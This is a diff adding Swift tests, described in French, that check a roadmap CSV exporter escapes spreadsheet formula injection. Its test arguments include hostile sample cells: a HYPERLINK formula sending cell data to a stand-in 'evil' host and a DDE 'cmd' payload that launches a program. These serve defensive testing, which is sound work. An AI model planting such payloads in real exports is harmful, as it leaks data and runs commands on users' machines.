@@ -62,4 +62,41 @@ struct CSVExportTests {
         let csv = CSVRoadmapRenderer(separator: ",").render(RoadmapPresentation(roadmap: roadmap, ruleBase: base))
         #expect(csv.hasPrefix("\u{FEFF}Rang,Phase,Période,"))
     }
+
+    @Test("injection de formules (OWASP) : une cellule de texte qu'un tableur exécuterait commence par une apostrophe",
+          arguments: [
+              (#"=HYPERLINK("http://evil/?"&A1;"x")"#, #""'=HYPERLINK(""http://evil/?""&A1;""x"")""#),
+              ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+              ("@SUM(1+1)", "'@SUM(1+1)"),
+              ("-1+1", "'-1+1"),
+              ("\t=1+1", "'\t=1+1"),
+              ("  =1+1", "'  =1+1"),
+              ("\r=1+1", "\"'\r=1+1\""),
+              ("＝1+1", "'＝1+1"),
+              ("=", "'="),
+              // Plain numbers stay numbers; text with a sign inside is harmless.
+              ("-12", "-12"), ("+3", "+3"), ("-0,5", "-0,5"), ("12", "12"), ("a=b", "a=b"), ("Santé - prévention", "Santé - prévention"),
+          ] as [(String, String)])
+    func formulaInjection(value: String, expected: String) {
+        #expect(CSVField.encode(value, separator: ";") == expected)
+    }
+
+    @Test("les noms et textes venus d'un profil ou d'une règle ne deviennent jamais des formules, dans la feuille de route et dans synthese.csv")
+    func injectionThroughARoadmap() throws {
+        var recs = Fixture.standard
+        recs[0].title = "=1+1"
+        var bourg = Fixture.bourg
+        bourg.name = "@SUM(A1)"
+        let (base, roadmap) = try Fixture.plan(bourg, recs: recs)
+        let csv = CSVRoadmapRenderer().render(RoadmapPresentation(roadmap: roadmap, ruleBase: base))
+        #expect(csv.contains(";'=1+1;"))
+        let synthesis = BatchSynthesis.rows(roadmap, line: 2)
+        #expect(synthesis.hasPrefix("'@SUM(A1);2;"))
+        #expect(synthesis.contains(";'=1+1;"))
+        for line in (csv + synthesis).components(separatedBy: "\r\n") {
+            for cell in line.components(separatedBy: ";") {
+                #expect(!["=", "+", "@"].contains(cell.first.map(String.init) ?? ""), "\(cell)")
+            }
+        }
+    }
 }
